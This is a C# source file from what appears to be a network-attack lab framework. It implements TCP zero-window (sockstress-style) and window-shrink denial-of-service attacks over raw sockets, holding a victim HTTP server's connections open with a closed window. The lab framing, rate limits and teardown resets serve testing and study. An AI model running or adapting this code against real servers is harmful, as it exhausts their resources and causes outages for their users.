using System.Diagnostics;
using System.Text;
using Uncloak.Core.Events;
using Uncloak.Core.Wire;
using Uncloak.Lab.Topology;
using Uncloak.Linux.Namespaces;

namespace Uncloak.Lab.Attacks;

/// <summary>
/// Holds the victim's connections open with a closed window, from a raw socket (the attacker's kernel never knows these
/// connections; its RSTs are dropped by the lab's nft rule). Per connection: SYN, ACK, <c>GET /big</c>, then — when the
/// first data arrives — window 0. <see cref="AttackKind.ZeroWindow"/> acknowledges the data it got (the sockstress form: the peer "stopped
/// reading") and answers every probe, re-sending the zero-window ACK each second so the server keeps waiting;
/// <see cref="AttackKind.WindowShrink"/> acknowledges nothing, so the window's right edge moves back with data
/// in flight (the "treason" form) and then falls silent, as the peer of the kernel's "Peer ... unexpectedly shrunk window"
/// message does: the server retransmits into the closed window with backoff for many minutes. Connections the server resets or closes are replaced, at most
/// <see cref="AttackLimits.Connections"/> new attempts per second. On stop, every held connection is reset so the victim
/// is released.
/// </summary>
public sealed class WindowHolder : IAttack
{
    private static readonly TimeSpan KeepAlive = TimeSpan.FromSeconds(1);
    private static readonly TimeSpan SynTimeout = TimeSpan.FromSeconds(1);

    private readonly bool _shrink;

    public WindowHolder(AttackKind kind)
    {
        if (kind is not (AttackKind.ZeroWindow or AttackKind.WindowShrink))
        {
            throw new ArgumentOutOfRangeException(nameof(kind), kind, "a window holder is zero-window or window-shrink");
        }
        _shrink = kind == AttackKind.WindowShrink;
        Kind = kind;
    }

    public AttackKind Kind { get; }

    private enum Phase
    {
        SynSent,
        Requested,
        Holding,
    }

    private sealed class Connection
    {
        public required ushort Port;
        public required uint Isn;
        public required TimeSpan Opened;
        public Phase Phase;
        public uint ServerIsn;
        public uint ReceiveNext;
        public TimeSpan LastAck;
    }

    public AttackStats Run(LabNames names, AttackLimits limits, CancellationToken cancel)
    {
        using var raw = NetNamespace.Run(names.Attacker, () => new RawTcpSocket(receiveTimeoutMillis: 20));
        var me = NetAddress.FromIPAddress(LabNames.AttackerAddress);
        var server = NetAddress.FromIPAddress(LabNames.ServerAddress);
        byte[] request = Encoding.ASCII.GetBytes($"GET /big HTTP/1.1\r\nHost: {LabNames.ServerAddress}\r\n\r\n");
        // Hold: a small window lets a little data in before it closes. Shrink: a window big enough to have data in flight.
        ushort window = _shrink ? (ushort)4000 : (ushort)1072;
        ushort mss = _shrink ? (ushort)1000 : (ushort)536;

        var connections = new Dictionary<ushort, Connection>();
        var clock = Stopwatch.StartNew();
        var opener = new Pacer(limits.Connections);
        long sent = 0, received = 0;
        int established = 0, reset = 0;
        ushort nextPort = (ushort)Random.Shared.Next(20_000, 40_000);
        string stopped = "time limit";

        TcpPacket ToServer(Connection c, TcpFlags flags, uint seq, uint ack, ushort win) => new()
        {
            Source = me, Destination = server, SourcePort = c.Port, DestinationPort = LabNames.HttpPort,
            Sequence = seq, Acknowledgement = ack, Flags = flags, Window = win,
        };

        void Send(in TcpPacket s, ReadOnlySpan<byte> payload = default)
        {
            raw.Send(s, payload);
            sent++;
        }

        while (true)
        {
            if (cancel.IsCancellationRequested)
            {
                stopped = "cancelled";
                break;
            }
            if (clock.Elapsed >= limits.Duration)
            {
                break;
            }
            if (sent >= limits.MaxPackets)
            {
                stopped = "packet limit";
                break;
            }
            var now = clock.Elapsed;

            // Forget handshakes that got no answer (a ban drops them) and open new ones up to the target, paced.
            foreach (var stale in connections.Values.Where(c => c.Phase == Phase.SynSent && now - c.Opened > SynTimeout).ToList())
            {
                connections.Remove(stale.Port);
            }
            int open = Math.Min(limits.Connections - connections.Count, opener.Due(limits.Connections));
            for (int i = 0; i < open; i++)
            {
                do
                {
                    nextPort = nextPort >= 60_000 ? (ushort)20_000 : (ushort)(nextPort + 1);
                }
                while (connections.ContainsKey(nextPort));
                var c = new Connection { Port = nextPort, Isn = (uint)Random.Shared.NextInt64(0, uint.MaxValue), Opened = now };
                connections[c.Port] = c;
                Send(ToServer(c, TcpFlags.Syn, c.Isn, 0, window) with { Mss = mss });
            }
            opener.Sent(Math.Max(0, open));

            // Keep every held connection alive: the server must see a peer that answers, with its window still shut.
            foreach (var c in connections.Values)
            {
                if (!_shrink && c.Phase == Phase.Holding && now - c.LastAck >= KeepAlive)
                {
                    Send(ToServer(c, TcpFlags.Ack, c.Isn + 1 + (uint)request.Length, c.ReceiveNext, 0));
                    c.LastAck = now;
                }
            }

            if (raw.Receive() is not { } s || s.Source != server || s.SourcePort != LabNames.HttpPort || !connections.TryGetValue(s.DestinationPort, out var conn))
            {
                continue;
            }
            received++;
            if (s.Flags.HasFlag(TcpFlags.Rst))
            {
                reset++;
                connections.Remove(conn.Port);
                continue;
            }
            uint ourNext = conn.Isn + 1 + (uint)request.Length;
            switch (conn.Phase)
            {
                case Phase.SynSent when s.Flags.HasFlag(TcpFlags.Syn | TcpFlags.Ack) && s.Acknowledgement == conn.Isn + 1:
                    conn.ServerIsn = s.Sequence;
                    conn.ReceiveNext = s.Sequence + 1;
                    Send(ToServer(conn, TcpFlags.Ack, conn.Isn + 1, conn.ReceiveNext, window));
                    Send(ToServer(conn, TcpFlags.Psh | TcpFlags.Ack, conn.Isn + 1, conn.ReceiveNext, window), request);
                    conn.Phase = Phase.Requested;
                    established++;
                    break;
                case Phase.Requested or Phase.Holding when s.Flags.HasFlag(TcpFlags.Fin):
                    // Closed on us (a server over its limit accepts and closes): reset our side and try again later.
                    reset++;
                    Send(ToServer(conn, TcpFlags.Rst, ourNext, 0, 0));
                    connections.Remove(conn.Port);
                    break;
                case Phase.Requested when s.PayloadLength > 0:
                    Accept(conn, s);
                    // Shrink: ReceiveNext stays at the server's ISN + 1, so the data in flight is never acknowledged.
                    Send(ToServer(conn, TcpFlags.Ack, ourNext, conn.ReceiveNext, 0));
                    conn.Phase = Phase.Holding;
                    conn.LastAck = now;
                    break;
                case Phase.Holding when !_shrink:
                    // A window probe or a retransmission: the answer is always the same closed window. Hold: data that was
                    // already in flight inside the window offered before is acknowledged, so the window never shrinks.
                    Accept(conn, s);
                    Send(ToServer(conn, TcpFlags.Ack, ourNext, conn.ReceiveNext, 0));
                    conn.LastAck = now;
                    break;
            }
        }

        void Accept(Connection c, in TcpPacket s)
        {
            // In order and inside the window first offered: the bytes a peer that "stopped reading" would have buffered.
            if (!_shrink && s.PayloadLength > 0 && s.Sequence == c.ReceiveNext && s.Sequence + (uint)s.PayloadLength - (c.ServerIsn + 1) <= window)
            {
                c.ReceiveNext = s.Sequence + (uint)s.PayloadLength;
            }
        }

        int held = connections.Values.Count(c => c.Phase == Phase.Holding);
        // Release the victim: reset everything we opened (bounded: one packet per connection).
        foreach (var c in connections.Values.Where(c => c.Phase != Phase.SynSent))
        {
            raw.Send(ToServer(c, TcpFlags.Rst, c.Isn + 1 + (uint)request.Length, 0, 0));
            sent++;
        }
        return new AttackStats(sent, received, established, reset, held, clock.Elapsed, stopped);
    }
}
